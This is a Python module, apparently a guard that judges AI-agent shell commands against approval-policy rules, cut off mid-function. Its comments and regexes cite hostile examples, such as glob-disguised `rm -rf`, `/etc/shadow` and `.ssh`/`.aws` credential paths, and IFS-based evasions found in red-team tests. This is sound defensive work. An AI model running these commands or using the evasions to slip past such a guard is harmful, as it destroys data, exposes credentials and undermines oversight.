"""Judging a call: danger patterns, then the approval policy's floors and rules.

Precedence: hardline > deny (policy floors and deny rules) > ask (ask rules,
unparseable input, dangerous matches not covered by the allowlist or an allow
rule) > allow. A command that cannot be parsed is never allowed by default.

A command is judged in every reading (normalize.readings): the raw text first,
then each folding that changes it; the verdict is the strictest. What cannot be
read for certain -- disguised text, input past a size, depth or command limit,
or past the time budget -- needs approval that no grant covers, and is denied
when a hardline command appears anywhere in it (a flat scan that needs no parse).
"""

from __future__ import annotations

import fnmatch
import functools
import itertools
import os
import posixpath
import re
import shlex
import threading
from collections import OrderedDict
from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
from functools import partial
from time import thread_time

from engine.policy.arguments import TYPED_ARGUMENTS
from engine.policy.argv import abbreviates, parse_argv, runs_nothing_later
from engine.policy.commands import SHELLS, command_name, shell_word
from engine.policy.follow import UNREAD_SHELL_MARK
from engine.policy.lexer import BUDGET as BUDGET_OF_CHECK
from engine.policy.lexer import MAX_LENGTH, MAX_TOKENS, Budget, OverBudget, ShellSyntaxError, expand_braces
from engine.policy.matchers import READER_MARK, Matcher, Shape, code_paths, first_operand, literal_reading, shape
from engine.policy.model import ALLOW, ASK, DENY, CompiledPattern, CompiledPolicy, Match, Rule, Verdict
from engine.policy.normalize import Readings, readings, suspicious
from engine.policy.paths import (
    COMPUTED_CLASSES,
    ENGINE_CLASSES,
    ENGINE_PARENT,
    FIND_EITHER,
    PathClassifier,
    Places,
    View,
    fewest_fragments,
    file_operand,
    lists_tree,
    literal_union,
    local_reading,
    runs_path,
)
from engine.policy.paths import unquoted as _unquoted
from engine.policy.programs import Extractor, ProgramTable, Send, runs_nothing, sends_away
from engine.policy.regexes import Finder, RegexError, RegexTimeout, glob_in_word
from engine.policy.rulematch import Piece, hit_texts, pieces, strict_hit
from engine.policy.shell import Analyzer, Command, TooComplex, last_line, may_name_directory_tilde, parse
from engine.policy.trees import (
    COMPRESSORS,
    DECOMPRESSORS,
    FOLLOWERS,
    IMPLICIT_FOLDER,
    RECURSIVE,
    TREE_READERS,
    compressed_files,
    followed_words,
    implicit_folder,
    options_of,
    recursive_words,
    tree_landings,
)
from engine.records import Record, replace

TYPE_CHECKING = False  # not typing's: a guard/check start does not import typing (mypy reads it as typing's)
if TYPE_CHECKING:
    from typing import Any, Final

    from engine.policy.views import DiskView, SessionView

# What hides words from the fast path (quotes, escapes, expansions, braces), or needs
# the parser to be judged at all (a here-document may be unterminated); and a word ending in `/`:
# as a command its name is empty, known only at run time, and every matcher applies to it.
# And a home or drive spelled the Windows way (`%USERPROFILE%/.ssh`, `C:/Users/me/.aws`): the fast
# path's fragments are about the path the classifier reads, not these spellings.
_OBFUSCATION = re.compile(
    r"[$`'\"\\{]|<<|/(?=[\s;&|()<>]|\Z)|(?i:%(?:userprofile|homepath)%)|(?<![A-Za-z0-9])[A-Za-z]:/"
)
# The same tests for a long text, each a C search of its own (`re` tries every alternative of
# _OBFUSCATION at every position: ~3 ms over 64 KiB, and once per reading of the text).
_OBFUSCATION_CHARS = "$`'\"\\{"
_SLASH_WORD_END = re.compile(r"/(?=[\s;&|()<>]|\Z)")
_WINDOWS_HOME = re.compile(r"(?i:%(?:userprofile|homepath)%)")
_DRIVE = re.compile(r":/(?<=(?<![A-Za-z0-9])[A-Za-z]:/)")  # `:/` first: `re` scans for the literal
# A name the shell or Windows resolves otherwise than spelled: a glob where a command starts
# (`/???/?m -rf ~` runs rm), `gh.exe` (WSL runs gh). Searched only when `*?[` or `.` is in the text.
_GLOB_COMMAND: Final = re.compile(
    r"(?:^|[;&|(){}!\n]|\b(?:then|do|else|elif|if|while|until|time)\s)\s*[^\s;&|()<>]*(?:[*?]|\[[^\]\s]*\])"
)
_WINDOWS_NAME: Final = re.compile(r"(?i)\.(?:exe|cmd|bat)(?![\w.])")
_WORDS: Final = re.compile(r"[a-z0-9_.+-]+")
# A path the classifier reads otherwise than spelled (`$HOME/`, `%USERPROFILE%\`, `C:\Users\me\`):
# path fragments in the text say nothing of it, so no name-less matcher is skipped for lack of them
# (the engine's own file names are single path components: any spelling of a path holds them).
_RESPELLED: Final = re.compile(r"%(?:userprofile|homepath)%|(?<![a-z0-9])[a-z]:[/\\]")  # and `$` or `\` anywhere
# An extglob group (`~/.!(x)`, `/e@(t)c/shadow`): a path reads it as far as it reaches (paths.py
# _extglob_reach), text no prefilter finds in the command's own (redt33).
_EXTGLOB_GROUP: Final = re.compile(r"[?*+@!]\(")
_QUOTES: Final = re.compile(r"[\"'`]")
# The flat scan: quoting removed, the text cut at anything that may end a command.
_FLAT_BREAKS = re.compile(r"[;&|\n()<>`]+|\$\(")
_FLAT_WINDOW = 64  # words judged after a repeated command name in the flat scan
_FLAT_LONG = 512  # words judged after the first one between two operators
_FLAT_PER_SEGMENT = 16  # repeated names judged between two operators
_FLAT_BULK: Final = 32  # runs past which the flat scan classifies plain names in bulk
_FLAT_DENSE = 64  # names past which the flat scan cuts the whole text into pieces
_FEW_NEW = 8  # pieces of another reading not judged yet, up to which they are put in order by a C search each
_FLAT_SAMPLE = 4096  # bytes of the cut text whose pieces say whether pieces repeat (see _flat_commands)
_FLAT_DEVICE = re.compile(r">[|>]?[ \t]*(/dev/[^\s;&|()<>`]+)")
_FLAT_DEVICES = 64
_FLAT_MATCHES = 64  # hardline matches past which the flat scan judges no more runs
# CPU seconds the flat scan may spend judging runs; what it cannot judge in that time is not
# read as harmless: the text is denied as hardline (found by rt6: `cd hl; rm -rf aN; ...` and
# `cd build; dd if=aN of=b; ...` at 64 KiB took 2-4 s, blocking the caller).
FLAT_SECONDS = 0.25
_UNJUDGED = "unjudged_text"
# (lead41) The flat scan's expanded reading (_flat_expanded): what bash's simplest expansions make of the text.
# (adv42) and `${IFS…}` with an operator (`${IFS:0:1}`, `${IFS%??}`, `${IFS-}`): a part of the blanks, split as they are
_FLAT_IFS: Final = re.compile(r"\$(?:IFS(?![A-Za-z0-9_])|\{IFS(?:[^A-Za-z0-9_}][^}]{0,16})?\})")
# `NAME=VALUE` at the start of a word: the look-behind first, so a run of letters is not tried at each position
_FLAT_ASSIGN: Final = re.compile(r"(?<![^\s;&|(])([A-Za-z_][A-Za-z0-9_]{0,63})=([^\s;&|()<>`]{1,128})(?![^\s;&|()<>`])")
_FLAT_REFERENCE: Final = re.compile(
    r"\$(?:\{([A-Za-z_][A-Za-z0-9_]{0,63})\}|([A-Za-z_][A-Za-z0-9_]{0,63})(?![A-Za-z0-9_]))"
)
_FLAT_WORD_CUTS: Final = re.compile(r"([\s;&|()<>`]+)")
_FLAT_EXPANSIONS: Final = 64  # names, or brace words, the expanded reading takes at most
# (debt43) A piece of the flat text whose command word is an expansion the expanded reading did not make (`${!b}`,
# `${a/x/r}`, a `$a` set by `read`/`printf -v`, a 65th name, one past the room): after the operator that starts it,
# blanks, `NAME=VALUE` words and reserved words, then a `$` word and the words after it (up to _FLAT_WINDOW)
_FLAT_UNNAMED: Final = re.compile(
    r"(?m)^[ \t]*(?:(?:[A-Za-z_][A-Za-z0-9_]*=\S*|!|\{|if|then|else|elif|do|while|until|time)[ \t]+)*"
    rf"(\$[^\s$]\S*(?:[ \t]+\S+){{0,{_FLAT_WINDOW - 1}}})"
)
_FLAT_ROOM: Final = 16 * 1024  # characters it may add to the text
_HARMLESS_DEVICES = frozenset({"/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty", "/dev/zero"})
_ANCHORED = frozenset("/~$-")  # first characters of words no `cd` moves (and of options)
_FLAT_FOLDERS = 8  # folders a `cd` names that the flat scan judges each run in (see _flat_directories)
# `cd`/`pushd` at the start of the text or after a separator: the look-behinds come after the
# first letter, so `re` scans for `c`/`p` (a few times faster over 64 KiB than trying a separator
# at every position).
_FLAT_CD = re.compile(
    r"(?:c(?<![^\s;&|()<>`]c)d|pushd(?<![^\s;&|()<>`]pushd))(?=[\s;&|()<>`]|\Z)((?:[ \t]+[^\s;&|()<>`]+){0,3})"
)
_FLAT_WORDS = re.compile(rb"\S+(?:\s+\S+){0,%d}" % (_FLAT_WINDOW - 1))
_FLAT_WORDS_LONG = re.compile(rb"\S+(?:\s+\S+){0,%d}" % (_FLAT_LONG - 1))
_FLAT_PIECES = re.compile(rb"[;&|\n()<>`]+")
_FLAT_PIECE_BYTES = bytes.maketrans(b";&|()<>`", b"\n" * 8)
_FLAT_OPERATORS = tuple(bytes([c]) for c in b";&|\n()<>`")  # what _FLAT_PIECES cuts at, one byte each
# (help38) The first word of a piece of the flat text (where a command starts: see Evaluator._quiet_piece)
_FLAT_HEAD = re.compile(rb"[ \t\r\x0b\x0c]*([^ \t\r\n\x0b\x0c]+)")
# What str.split() splits ASCII at and bytes.split() does not (information separators).
_STR_ONLY_BLANKS = re.compile(rb"[\x1c-\x1f]")
_FLAT_SEPARATORS = frozenset(bytes([c]) for c in b" \t\n\r\x0b\x0c;&|()<>`")
# `$(` is an operator too: it becomes `$` and a byte no UTF-8 text holds, then `(` cuts the text
# there. A name just before it is a name only if it takes the `$` in (as `$(` was read before).
_FLAT_SUBSTITUTION = b"$\xff"
_FLAT_PIECE_ENDS = _FLAT_SEPARATORS | {b"\xff"}

# CPU seconds one command may take to judge: a backstop for what the deterministic limits (size,
# depth, tokens, commands, brace groups) do not foresee; those bound the work, and the adversarial
# benchmark measures it (a few ms at 64 KiB). Past it, the command is judged by the flat scan.
# This thread's CPU time, so other processes change no verdict; large, because a garbage
# collection that happens to run during a check counts too.
BUDGET = 0.5
DISGUISED: Final = "disguised_text"
_BUDGETED: Final = 256  # texts longer than this parse under the token budget
# Parses remembered per evaluator (one policy generation), by exact text: an agent runs the same
# short commands again and again. Only texts parsed without a budget and without a session are
# kept: then the parse depends on nothing but the text and the Programs table (links, the working
# directory and the session's files are looked at when matching, on every check).
PARSE_CACHE = 512
# (perf50) Parses of lines that read the files they run from the disk (a check without a session: DiskView), kept with
# what each file was (DiskView.stamps) and used again while every one is as it was: the least recently used go first.
DISK_PARSE_CACHE = 256
_PLAIN: Final = Readings("")  # printable ASCII: no other reading
_MAX_ESCAPES = 256  # `%` signs past which a text is not decoded (a bound on the work: issue 10)
_TOO_ESCAPED: Final = "%"  # _percent_decoded's answer for such a text (compared by identity)
_HEX_DIGITS = frozenset("0123456789abcdefABCDEF")


def _dash_names(view: View, session: SessionView | None, cwd: str | None, every: bool = False) -> tuple[str, ...]:
    """(xf46) The names starting with `-` a glob word may expand to in the folder a command runs in (``cwd``: the
    analyzer's); in one only the run knows (`cd "$D"`), the working directory's and those the session wrote.
    ``every``: all the names there (adv47: what follows a planted option as its value)."""
    names = view.dash_names(cwd, every)
    if names is None:
        names = view.dash_names(None, every) or ()
        if session is not None:
            names += tuple(name for name in session.files.names if every or name[:1] == "-")
    return names


def _line_ended(view: View, cwd: str | None, name: str) -> bool:
    """(fp49) Whether the file ``name`` (in the folder ``cwd``, the analyzer's) is absent, empty or ends with a
    newline: text appended to it starts a line of its own. False when the folder or the file cannot be read."""
    folder = view.folder(cwd) if cwd is not None else view.folder(".")
    if folder is None or not name or name.startswith(("~", "$")):
        return False
    path = os.path.join(folder, name)
    if last_line(path) != "":
        return False
    return os.path.exists(path) or not os.path.islink(path)  # (a dangling link: written where it leads)


def _percent_decoded(text: str) -> str | None:
    """``text`` with its %XX escapes of ASCII characters decoded; None when it has none; _TOO_ESCAPED
    past _MAX_ESCAPES `%` signs."""
    if text.count("%") > _MAX_ESCAPES:
        return _TOO_ESCAPED
    pieces = text.split("%")
    out = [pieces[0]]
    for piece in pieces[1:]:
        if len(piece) >= 2 and piece[0] in "01234567" and piece[1] in _HEX_DIGITS:
            out.append(chr(int(piece[:2], 16)) + piece[2:])
        else:
            out.append("%" + piece)
    decoded = "".join(out)
    return None if decoded == text else decoded


_ALLOWED: Final = Verdict(ALLOW, False)

# (pattern index, pattern, matcher, whether the command's name is already known to pass)
_Entry = tuple[int, CompiledPattern, Matcher, bool]


_MAX_NAMES: Final = 4096  # command names whose matchers _Index.candidates keeps


class _Index(Record):
    """Which matchers can apply to a command of a given name, so each command meets only those."""

    __slots__ = (  # noqa: RUF023  (the fields' order)
        "by_name",
        "by_subcommand",
        "generic",
        "redirecting",
        "globbed",
        "dynamic",
        "dynamic_bare",
        "regex_only",
        "_names",
        "_sub_names",
        "hardline_names",
        "hardline_words",
        "engine",
        "flat_plans",
        "flat_fold",
        "match_plans",
        "unfiltered",
        "gate",
    )

    by_name: dict[str, list[_Entry]]
    # (name, first subcommand word) -> matchers that require that subcommand (git push, docker rm ...)
    by_subcommand: dict[tuple[str, str], list[_Entry]]
    generic: list[_Entry]  # any command name
    redirecting: list[_Entry]  # any command name, but only judging its redirections
    globbed: list[_Entry]  # names given as globs (mkfs.*)
    dynamic: list[_Entry]  # those that also apply to names known only at run time
    # Of those, the ones a command without words can meet (`$(...)` alone: see Matcher.needs_words).
    dynamic_bare: list[_Entry]
    regex_only: list[tuple[int, CompiledPattern]]  # patterns that are a bare regex over the text
    _names: dict[str, list[_Entry]]
    _sub_names: frozenset[str]  # names with entries in by_subcommand
    # Command names (exact, and globs as one regex) that some hardline matcher looks for.
    hardline_names: frozenset[str]
    # Where a word the flat scan judges may start: a hardline command name, with or without a path.
    hardline_words: Finder | None
    # Matchers that only look for the engine's own files: the names of those files are known
    # at run time only, and a command that mentions none of them meets none of these.
    engine: tuple[_Entry, ...]
    # Per command name, the word tests of the flat scan's representatives (see _flat_plan).
    flat_plans: dict[str, tuple[Callable[[str], Any], ...] | None]
    # The flat scan's fold of plain words (see _FlatFold), built when a long text first needs it.
    flat_fold: _FlatFold | None
    # Per command name, the word tests of _match's forms (see _match_plan).
    match_plans: dict[str, tuple[Callable[[str], Any], ...] | None]
    unfiltered: list[_Entry]  # the generic matchers without a prefilter
    # (the engine names it was made for, one search for every generic prefilter and those names):
    # see _gate. Made when first needed, replaced as a whole (a check in another thread reads either).
    gate: tuple[object, Any] | None

    def __init__(
        self,
        by_name: dict[str, list[_Entry]],
        by_subcommand: dict[tuple[str, str], list[_Entry]],
        generic: list[_Entry],
        redirecting: list[_Entry],
        globbed: list[_Entry],
        dynamic: list[_Entry],
        dynamic_bare: list[_Entry],
        regex_only: list[tuple[int, CompiledPattern]],
        _names: dict[str, list[_Entry]],
        _sub_names: frozenset[str] = frozenset(),
        hardline_names: frozenset[str] = frozenset(),
        hardline_words: Finder | None = None,
        engine: tuple[_Entry, ...] = (),
        flat_plans: dict[str, tuple[Callable[[str], Any], ...] | None] | None = None,
        flat_fold: _FlatFold | None = None,
        match_plans: dict[str, tuple[Callable[[str], Any], ...] | None] | None = None,
    ) -> None:
        self.by_name = by_name
        self.by_subcommand = by_subcommand
        self.generic = generic
        self.redirecting = redirecting
        self.globbed = globbed
        self.dynamic = dynamic
        self.dynamic_bare = dynamic_bare
        self.regex_only = regex_only
        self._names = _names
        self._sub_names = _sub_names
        self.hardline_names = hardline_names
        self.hardline_words = hardline_words
        self.engine = engine
        self.flat_plans = {} if flat_plans is None else flat_plans
        self.flat_fold = flat_fold
        self.match_plans = {} if match_plans is None else match_plans
        self.unfiltered = [e for e in generic if e[2].prefilter is None]
        self.gate = None

    @classmethod
    def build(cls, patterns: tuple[CompiledPattern, ...]) -> _Index:
        by_name: dict[str, list[_Entry]] = {}
        by_subcommand: dict[tuple[str, str], list[_Entry]] = {}
        generic: list[_Entry] = []
        redirecting: list[_Entry] = []
        globbed: list[_Entry] = []
        dynamic: list[_Entry] = []
        regex_only: list[tuple[int, CompiledPattern]] = []
        engine: list[_Entry] = []
        for i, pattern in enumerate(patterns):
            if not pattern.matchers:
                if pattern.regex is not None:
                    regex_only.append((i, pattern))
                continue
            for matcher in pattern.matchers:
                if matcher.path is not None:
                    continue
                # Matchers found by their exact or glob name need no second name test; the
                # others (any name, names known only at run time, not_command lists) run it.
                unnamed: _Entry = (i, pattern, matcher, False)
                named: _Entry = (i, pattern, matcher, not matcher.not_names)
                if matcher.dynamic is not False:
                    # A name known only at run time passes the name test of exactly these.
                    dynamic.append((i, pattern, matcher, True))
                if _engine_only(matcher):
                    engine.append(unnamed)
                    continue
                if matcher.names is None and not matcher.name_globs:
                    only_redirects = (
                        (matcher.redirects is not None or matcher.reads is not None)
                        and not matcher.uses_shape
                        and not (matcher.text or matcher.code or matcher.code_paths or matcher.via or matcher.fed_by)
                    )
                    (redirecting if only_redirects else generic).append(unnamed)
                    continue
                # A matcher whose every subcommand has a first word can only match a command whose
                # first positional is one of those words (`docker compose down`, `docker compose stop`
                # share `compose`).
                firsts = {sub[0] for sub in matcher.subcommands if sub}
                for name in matcher.names or ():
                    if firsts and all(matcher.subcommands):
                        for first in firsts:
                            by_subcommand.setdefault((name, first), []).append(named)
                    else:
                        by_name.setdefault(name, []).append(named)
                if matcher.name_globs:
                    globbed.append(named)
        sub_names = frozenset(name for name, _ in by_subcommand)
        hard_names = {
            name
            for table in (by_name, {k[0]: v for k, v in by_subcommand.items()})
            for name, entries in table.items()
            if any(e[1].severity == "hardline" for e in entries)
        }
        hard_names.update(n for e in engine if e[1].severity == "hardline" for n in e[2].names or ())
        hard_globs = [g.glob for e in globbed if e[1].severity == "hardline" for g in e[2].name_globs if g.glob]
        return cls(
            by_name,
            by_subcommand,
            generic,
            redirecting,
            globbed,
            dynamic,
            [e for e in dynamic if not e[2].needs_words],
            regex_only,
            {},
            sub_names,
            frozenset(hard_names),
            _word_finder(hard_names, hard_globs),
            tuple(engine),
        )

    def candidates(
        self,
        command: Command,
        engine_names: re.Pattern[str] | None = None,
        view: View | None = None,
        engine_fragments: tuple[str, ...] | None = None,
    ) -> list[_Entry]:
        """Matchers that may apply to ``command``. When a word of it may land elsewhere than it
        reads (``view`` knows: a symbolic link), no matcher is skipped for the text it lacks."""
        name = command.name
        if not name:  # command.is_dynamic
            return self.dynamic if len(command.argv) > 1 else self.dynamic_bare
        cached = self._names.get(name)
        if cached is None:
            globbed = [e for e in self.globbed if any(g.match(name) for g in e[2].name_globs)]
            names = self._names
            if len(names) >= _MAX_NAMES:  # a caller's every new name must not grow it without end
                names.clear()
            cached = names[name] = [*self.by_name.get(name, ()), *globbed]
        if name in self._sub_names:
            first = first_operand(command)
            if first is not None:
                specific = self.by_subcommand.get((name, first))
                if specific:
                    cached = [*cached, *specific]
        generic = self.generic
        engine = bool(self.engine)
        if command.cwd is None:
            lowered = command.text.lower()
            respelled = "$" in lowered or "\\" in lowered
            if not respelled and ("%" in lowered or ":" in lowered):
                respelled = _RESPELLED.search(lowered) is not None
            globbed_group = "(" in lowered and _EXTGLOB_GROUP.search(lowered) is not None
            respelled = respelled or globbed_group
            # Most commands name no path fragment of any prefilter nor an engine file: one search says so.
            gate = self.gate
            if gate is None or gate[0] is not engine_names:
                gate = self._gate(engine_names, engine_fragments)
            quiet = (
                gate[1] is not None and not globbed_group and len(lowered) <= _LONG and gate[1].search(lowered) is None
            )
            if generic and not respelled:
                # Name-less matchers look for paths: skip those whose path text is absent.
                if quiet:
                    generic = self.unfiltered
                elif len(lowered) > _LONG:  # on RE2 (see _LongSearch)
                    generic = [e for e in generic if e[2].prefilter is None or _found_long(e[2].prefilter, lowered)]
                else:
                    generic = [e for e in generic if e[2].prefilter is None or e[2].prefilter.search(lowered)]
            # (a redirection's target is searched apart: it may not be spelled in the text)
            if engine and (not quiet or command.redirects):
                engine = _names_engine_files(command, engine_names, lowered)
            else:
                engine = False
            if (len(generic) < len(self.generic) or (self.engine and not engine)) and view is not None:
                words = (*command.argv, *(target for _, target in command.redirects))
                if view.words_land_elsewhere(words):
                    generic, engine = self.generic, bool(self.engine)
        if engine:
            generic = [*generic, *self.engine]
        if command.redirects:
            return [*cached, *generic, *self.redirecting]
        return [*cached, *generic] if generic else cached

    def _gate(
        self,
        engine_names: re.Pattern[str] | None,
        engine_fragments: tuple[str, ...] | None = None,
        automaton: bool = False,
    ) -> tuple[object, Any]:
        """One regex that finds what any generic matcher's prefilter or ``engine_names`` finds (a
        text it misses meets neither; one it finds is searched by each, as before). None when there
        is nothing to gate, or a pattern would change meaning in an alternation (flags; one that
        matches everywhere, as in an engine folder).

        When every one of them is the trie of its literal fragments (Matcher.prefilter_fragments,
        ``engine_fragments`` for ``engine_names``), the gate is the trie of all those fragments: the
        prefilters share most of theirs (`.env`, `/.ssh/`), and `re` follows one branch per character
        where an alternation of tries tries each in turn (~2.4 KB of pattern, not ~5 KB: about half
        the cost of a search over a short command). With ``automaton`` (an evaluator that judges many
        checks: prepare_flat_scan) those fragments are searched on an Aho-Corasick automaton instead
        (_Fragments), when pyahocorasick is there."""
        distinct = dict.fromkeys(e[2].prefilter for e in self.generic if e[2].prefilter is not None)
        if engine_names is not None and self.engine:
            distinct[engine_names] = None
        found: Any = None  # a compiled `re` pattern, or _Fragments: `search(text)`
        fragments: list[str] | None = []
        for e in self.generic:
            if e[2].prefilter is not None and fragments is not None:
                if e[2].prefilter_fragments:
                    fragments.extend(e[2].prefilter_fragments)
                else:
                    fragments = None
        if engine_names is not None and self.engine and fragments is not None:
            if engine_fragments and "" not in engine_fragments:
                fragments.extend(engine_fragments)
            else:
                fragments = None
        if distinct and fragments:
            fewest = fewest_fragments(fragments)
            found = (_Fragments.of(fewest) if automaton else None) or re.compile(literal_union(fewest))
        elif distinct and all(p.flags == re.UNICODE and p.pattern and not p.match("") for p in distinct):
            # Without groups, `A|B` finds what `(?:A)|(?:B)` does; each alternative then starts with
            # its own literal (not a group), so `re` skips to the positions one may start at (the
            # prefix charset `re` builds for a branch of literals): ~2x faster on a short command.
            joined = (_unwrapped(p.pattern) if not p.groups else f"(?:{p.pattern})" for p in distinct)
            found = re.compile("|".join(joined))
        gate: tuple[object, Any] = (engine_names, found)
        self.gate = gate
        return gate


class _Fragments:
    """Whether a text holds one of a set of literal fragments, in one pass (an Aho-Corasick automaton: the
    pyahocorasick package). The gate's ~270 fragments (`.env`, `/.ssh/`, `/etc/shadow` ...) as a trie on `re`
    cost up to ~6 us on a 40-character line with a few `/` (each `/` enters the trie's largest branch, tried
    alternative by alternative); here a line costs well under a microsecond. Built only for an evaluator that
    judges many checks (~0.25 ms to build: a guard event's one check keeps `re`, its program read back from the
    warm-start file)."""

    __slots__ = ("_automaton",)

    def __init__(self, automaton: Any) -> None:
        self._automaton = automaton

    @staticmethod
    def of(fragments: Iterable[str]) -> _Fragments | None:
        """The fragments' searcher; None without pyahocorasick (then `re` searches) or without a fragment."""
        try:
            import ahocorasick  # noqa: PLC0415  (only an evaluator that judges many checks loads it)
        except ImportError:
            return None
        automaton = ahocorasick.Automaton()
        for fragment in fragments:
            if not fragment:
                return None  # the empty fragment is in every text: `re` says so as well
            automaton.add_word(fragment, None)
        if not len(automaton):
            return None
        automaton.make_automaton()
        return _Fragments(automaton)

    def search(self, text: str, /) -> object | None:
        return next(self._automaton.iter(text), None)


def _unwrapped(pattern: str) -> str:
    """``pattern`` without the non-capturing groups that enclose all of it (`(?:a|b)` is `a|b`),
    for an alternation of several (see _Index._gate)."""
    while pattern.startswith("(?:") and _group_end(pattern) == len(pattern) - 1:
        pattern = pattern[3:-1]
    return pattern


def _group_end(pattern: str) -> int:
    """The index of the `)` closing the group ``pattern`` starts with (-1: none): escapes and
    character classes (`[)]`, `[^]x]`) skipped."""
    depth = 0
    i = 0
    n = len(pattern)
    while i < n:
        ch = pattern[i]
        if ch == "\\":
            i += 2
            continue
        if ch == "[":
            j = i + 1
            if j < n and pattern[j] == "^":
                j += 1
            if j < n and pattern[j] == "]":
                j += 1
            while j < n and pattern[j] != "]":
                j += 2 if pattern[j] == "\\" else 1
            i = j + 1
            continue
        if ch == "(":
            depth += 1
        elif ch == ")":
            depth -= 1
            if depth == 0:
                return i
        i += 1
    return -1


def _names_engine_files(command: Command, engine_names: re.Pattern[str] | None, lowered: str) -> bool:
    if engine_names is None:
        return False
    if engine_names.search(lowered) if len(lowered) <= _LONG else _found_long(engine_names, lowered):
        return True
    return any(engine_names.search(target.lower()) for _, target in command.redirects)


def _shaped(command: Command) -> Shape:
    """``command``'s flags and positionals (matchers.shape), computed once per command."""
    shaped: Shape | None = command.shape
    if shaped is None:
        shaped = command.shape = shape(command)
    return shaped


def _positional_classes(command: Command, classify: Callable[[str], frozenset[str]]) -> frozenset[str]:
    """Every class a positional of ``command`` is in, in any of its forms (a word judged in several
    forms is, as a set, their union): a matcher's `args` test can only hold for one of these. A word given as
    written (Shape.literal) is in its classes as the matchers read it too (fp44: `cp x 'a$b/../policies/x.yaml'`
    is engine_files there, and was passed over)."""
    shaped = _shaped(command)
    positionals = shaped.positionals
    if len(positionals) == 1 and not shaped.literal:
        return classify(positionals[0])  # (most commands: no new set, no argument tuple)
    held: set[str] = set()
    for word in positionals:
        held.update(classify(word))
    if shaped.literal:
        written = literal_reading(command, shaped, classify)
        for word in shaped.literal.intersection(positionals):
            held.update(written(word))
    return frozenset(held)


_REPEATS_PAST: Final = 8  # commands on a line past which _match passes over repeated ones


def _obfuscated(text: str) -> bool:
    """Whether _OBFUSCATION finds something in ``text`` (in a long text, without trying every
    alternative at every position)."""
    if len(text) <= _LONG:
        return _OBFUSCATION.search(text) is not None
    if "<<" in text or any(c in text for c in _OBFUSCATION_CHARS):
        return True
    if "%" in text and _WINDOWS_HOME.search(text) is not None:
        return True
    return "/" in text and (_SLASH_WORD_END.search(text) is not None or _DRIVE.search(text) is not None)


def _engine_only(matcher: Matcher) -> bool:
    """Whether every path test of a matcher is about the engine's own files."""
    specs = [
        s for s in (matcher.args, matcher.words, matcher.redirects, matcher.reads, matcher.code_paths) if s is not None
    ]
    specs += [spec for _, spec in matcher.options]
    return bool(specs) and all(s.classes and s.classes <= ENGINE_CLASSES for s in specs)


class Evaluator:
    """Verdicts for one compiled policy and one working directory."""

    # Pass over a matcher whose `args` classes (Matcher.arg_classes) none of the command's positionals
    # holds, without calling it: one set test instead of its checks. Speed only (off in the
    # differential test's reference, which must judge alike).
    by_classes = True
    # Pass over a command equal to one judged before on the same line (see _match). Speed only
    # (off in the differential test's reference).
    skip_repeats = True

    def __init__(self, policy: CompiledPolicy, cwd: str | None = None, places: Places | None = None) -> None:
        self.policy = policy
        self.workdir = cwd  # (bg49) where a check without a session reads the files a command runs (DiskView)
        self.classifier = PathClassifier(policy.classes, cwd, places, policy.folders)
        self._by_target: dict[tuple[str, str], tuple[CompiledPattern, ...]] = {}
        self._indexes: dict[int, tuple[tuple[CompiledPattern, ...], _Index]] = {}
        # The names of the engine's own files are path fragments too: only known at run time.
        self._engine_names = _alternation(places.names) if places else None
        # Its fragments, for the gate's one trie (_Index._gate); None when it is not their trie.
        self._engine_fragments: tuple[str, ...] | None = (
            tuple(fewest_fragments(places.names)) if places and self._engine_names is not None else None
        )
        self._substrings = _alternation((*policy.trigger_substrings, *(places.names if places else ())))
        classify = self.classifier.classify  # a property's result, called apart (mypyc, see docs/compiled.md)
        if places is not None and "engine_files" in classify(places.cwd):
            # Working inside an engine folder (a guard event's cwd after `cd policies`): a relative
            # name there (`deny.yaml`) is an engine file that holds none of those names (rt11).
            self._engine_names = self._substrings = re.compile("")
            self._engine_fragments = None
        # The fast path's tests on RE2 (`re` tries each alternative at each position): the
        # substrings always, the trigger words in long texts (a set lookup per word is cheaper in short ones).
        self._substring_finder = _LongSearch(self._substrings)
        self._long_triggers = _LongSearch(_trigger_words(policy.trigger_words))
        # text -> (its simple commands, files it runs whose text is unknown); see PARSE_CACHE.
        # Set parse_cache to 0 to parse every text (the benchmark's cold figure).
        self.parse_cache = PARSE_CACHE
        # (commands, files it runs that were not read, the folders its globs expand in: see Analyzer.dash_folders)
        self._parses: dict[str, tuple[list[Command], tuple[str, ...], tuple[str | None, ...]]] = {}
        # (perf50) text -> (its parse as in _parses, what each file it read was: DiskView.stamps); see DISK_PARSE_CACHE.
        # A file changed less than ``disk_settle`` seconds before a check is not kept (a rewrite within the same
        # clock tick leaves its times as they were). Set disk_parse_cache to 0 to read and parse every such line.
        self.disk_parse_cache = DISK_PARSE_CACHE
        self.disk_settle = 2.0
        self._disk_parses: OrderedDict[
            str, tuple[list[Command], tuple[str, ...], tuple[str | None, ...], dict[str, object]]
        ] = OrderedDict()
        self._disk_lock = threading.Lock()
        # (help38) The names of the programs whose grammar has `runs_nothing`, as the flat scan reads a word (made
        # on its first piece: _quiet_piece)
        self._quiet_names: frozenset[bytes] | None = None
        for pattern in policy.patterns:
            for target in pattern.targets:
                key = (target.tool, target.argument)
                self._by_target[key] = (*self._by_target.get(key, ()), pattern)

    def prepare_flat_scan(self) -> None:
        """Build what the flat scan builds on its first long text (the classifier's plain finders, ~1,000
        class globs to RE2, and the terminal's flat fold: ~40 ms), so that no check pays it (issue 10: a
        1 KiB text did). For an evaluator that judges many checks (the Engine's); a guard event's
        evaluator judges one and builds them only when its text needs them."""
        self.classifier._plain_finders()
        places = self.classifier.places
        if places is not None:
            self.classifier._relative_finders(places.cwd)  # the same for names read where checks run
        terminal = self.patterns_for("terminal", "command")
        if terminal:
            index = self._index(terminal)
            _FlatFold.of(index)
            # the gate of every command's candidates on an automaton (see _Index._gate, _Fragments)
            index._gate(self._engine_names, self._engine_fragments, automaton=True)

    def _quiet_piece(self, piece: bytes) -> bool:
        """(help38) Whether a piece of the flat text (the words between two operators) is a command of a program
        that runs nothing with its words (its grammar's `runs_nothing`: `sudo --help rm -rf /`, `bash -n -c TEXT`):
        then no run in it runs. Read from its first word only: one after a variable, a keyword or an assignment
        (`then sudo --help ...`) is not read so, and the rest of the flat scan's reading stands."""
        head = _FLAT_HEAD.match(piece)
        if head is None:
            return False
        word = head.group(1)
        names = self._quiet_names
        if names is None:
            table = self.policy.programs.by_name
            names = self._quiet_names = frozenset(n.encode() for n, p in table.items() if p.grammar.runs_nothing)
        if word.rpartition(b"/")[2].lower() not in names:
